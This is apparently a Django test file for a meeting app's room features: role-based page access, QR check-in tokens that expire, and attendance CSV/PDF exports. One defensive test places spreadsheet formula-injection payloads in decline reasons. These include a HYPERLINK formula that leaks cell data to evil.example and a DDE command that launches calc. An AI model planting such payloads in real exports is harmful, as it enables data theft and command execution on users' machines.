"""Room pages: the room, the rotating QR, QR check-in, attendance exports — per role."""

from __future__ import annotations

import io
import time

from django.core import signing
from pypdf import PdfReader

from meetings.actions.room import do_issue_checkin_code
from meetings.models import Attendance, Participant
from tests.kit.cases import BaseTestCase
from tests.kit.rooms import make_room
from tests.kit.users import make_user


class RoomPageTests(BaseTestCase):
    def setUp(self):
        self.room = make_room(prefix="p")
        self.m = self.room.meeting

    def test_room_page_per_role(self):
        url = f"/meetings/{self.m.pk}/room/"
        chair = self.client_for(self.room.chair).get(url)
        self.assertContains(chair, 'data-testid="console"')
        self.assertContains(chair, "meetings/room/main.js")
        member = self.client_for(self.room.member).get(url)
        self.assertEqual(member.status_code, 200)
        self.assertNotContains(member, 'data-testid="console"')
        outsider = self.client_for(self.outsider).get(url)
        self.assertEqual(outsider.status_code, 404)
        self.assertNotContains(outsider, self.m.title, status_code=404)
        anonymous = self.client.get(url)
        self.assertEqual(anonymous.status_code, 302)
        self.assertIn("/login/", anonymous["Location"])

    def test_qr_only_for_runners_and_checkin_by_qr(self):
        qr = self.client_for(self.room.secretary).get(f"/meetings/{self.m.pk}/room/qr.svg")
        self.assertEqual(qr["Content-Type"], "image/svg+xml")
        self.assertIn(b"<svg", qr.content)
        self.assertEqual(self.client_for(self.room.member).get(f"/meetings/{self.m.pk}/room/qr.svg").status_code, 404)
        self.assertEqual(self.client_for(self.outsider).get(f"/meetings/{self.m.pk}/room/qr.svg").status_code, 404)
        token = do_issue_checkin_code(self.m, actor=self.room.secretary)
        member = self.client_for(self.room.member)
        page = member.get(f"/meetings/{self.m.pk}/room/checkin/?t={token}")
        self.assertContains(page, 'data-testid="qr-checkin"')
        self.assertFalse(Attendance.objects.exists())  # GET changes nothing
        done = member.post(f"/meetings/{self.m.pk}/room/checkin/", {"token": token})
        self.assertEqual(done.status_code, 302)
        self.assertEqual(Attendance.objects.get().method, "qr")
        # a code from another meeting, or an old one, does not work
        other = make_room(prefix="o")
        bad = self.client_for(self.room.members[1]).post(f"/meetings/{self.m.pk}/room/checkin/",
                                                         {"token": do_issue_checkin_code(other.meeting, actor=other.secretary)})
        self.assertEqual(bad.status_code, 400)
        old = signing.TimestampSigner(salt=f"meetings.checkin.{self.m.room_state.checkin_secret}")
        stale = old.sign(str(self.m.pk))
        real_time = time.time
        try:
            time.time = lambda: real_time() + 3600
            self.assertEqual(self.client_for(self.room.members[1]).post(
                f"/meetings/{self.m.pk}/room/checkin/", {"token": stale}).status_code, 400)
        finally:
            time.time = real_time
        self.assertEqual(self.client_for(self.outsider).post(f"/meetings/{self.m.pk}/room/checkin/",
                                                             {"token": token}).status_code, 404)

    def test_attendance_exports(self):
        absent = self.room.member_parts[1]
        absent.response, absent.response_reason = Participant.Response.DECLINE, "Đi công tác Hà Nội"
        absent.save()
        # ORM on purpose: a delegate joining a meeting already in progress (no action does that).
        deputy = Participant.objects.create(meeting=self.m, user=make_user("deputy", full_name="Phó Giám Đốc"),
                                            role="guest", delegate_for=absent)
        from meetings.actions.room import do_check_in

        do_check_in(self.m, actor=self.room.member)
        do_check_in(self.m, actor=deputy.user, remote=True)
        chair = self.client_for(self.room.chair)
        csv_response = chair.get(f"/meetings/{self.m.pk}/room/attendance.csv")
        text = csv_response.content.decode("utf-8-sig")
        self.assertIn("Đi công tác Hà Nội", text)
        self.assertIn("Phó Giám Đốc", text)
        self.assertEqual(len(text.strip().splitlines()), 1 + Participant.objects.filter(meeting=self.m).count())
        pdf = chair.get(f"/meetings/{self.m.pk}/room/attendance.pdf")
        self.assertEqual(pdf["Content-Type"], "application/pdf")
        content = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.content)).pages)
        self.assertIn("Đi công tác Hà Nội", content)
        for user in (self.room.member, self.outsider):
            self.assertEqual(self.client_for(user).get(f"/meetings/{self.m.pk}/room/attendance.csv").status_code, 404)
        self.assertEqual(self.client.get(f"/meetings/{self.m.pk}/room/attendance.pdf").status_code, 302)



    def test_attendance_csv_does_not_run_formulas(self):
        # A decline reason is typed by a participant; in the secretary's spreadsheet it must stay text.
        import csv

        reasons = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)"]
        for part, reason in zip([self.room.member_parts[0], self.room.member_parts[1], self.room.parts["guest"]],
                                reasons, strict=True):
            part.response, part.response_reason = Participant.Response.DECLINE, reason
            part.save()
        response = self.client_for(self.room.chair).get(f"/meetings/{self.m.pk}/room/attendance.csv")
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
        for reason in reasons:
            self.assertIn("'" + reason, cells)
        self.assertFalse([c for c in cells if c[:1] in ("=", "+", "-", "@")])


class MeetingPageLinksToRoomTests(BaseTestCase):
    def test_meeting_page_leads_into_the_room_once_scheduled(self):
        room = make_room(prefix="l")
        meeting = room.meeting
        client = self.client_for(room.member)
        for status, shown in [("scheduled", True), ("in_progress", True), ("ended", True)]:
            meeting.status = status
            meeting.save(update_fields=["status"])
            page = client.get(f"/meetings/{meeting.pk}/")
            self.assertEqual(page.status_code, 200)
            self.assertEqual('data-testid="enter-room"' in page.content.decode(), shown, status)
        meeting.status = "draft"
        meeting.save(update_fields=["status"])
        page = self.client_for(room.chair).get(f"/meetings/{meeting.pk}/")
        self.assertNotContains(page, 'data-testid="enter-room"')
